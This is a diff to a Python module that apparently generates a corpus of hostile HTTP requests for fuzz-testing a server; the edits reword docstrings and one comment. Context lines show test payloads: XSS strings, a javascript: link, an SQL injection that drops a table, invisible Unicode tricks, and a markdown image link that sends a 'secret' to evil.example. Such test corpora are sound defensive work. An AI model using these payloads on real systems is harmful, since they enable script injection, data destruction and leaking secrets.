@@ -1,4 +1,4 @@
-"""Requests that nobody sends by accident, as bytes: each goes over a connection of its own."""
+"""Hostile requests, as bytes; each goes over a connection of its own."""
 
 from __future__ import annotations
 
@@ -40,7 +40,7 @@ TEXTS: list[str] = [
     "\u202egnirts\u202c",
     "\u200b" * 1_000,
     "a\u0301" * 1_000,
-    "\U000e0001\U000e0041",  # tags that no screen shows
+    "\U000e0001\U000e0041",  # invisible tags
     "<script>alert(1)</script><img src=x onerror=alert(1)>",
     "![](https://evil.example/?q=secret) [x](javascript:alert(1))",
     "'; DROP TABLE runs; --",
@@ -102,7 +102,7 @@ STARTS: list[bytes] = [
 
 
 def requests(key: str, *, mutants: int) -> Iterator[bytes]:
-    """The whole corpus, with a valid key where the request has room for one; then mutants of good requests."""
+    """The whole corpus, with a valid key if the request has room for one; then mutants of good requests."""
     for path in PATHS:
         for body in BODIES:
             yield _post(path, body, key)
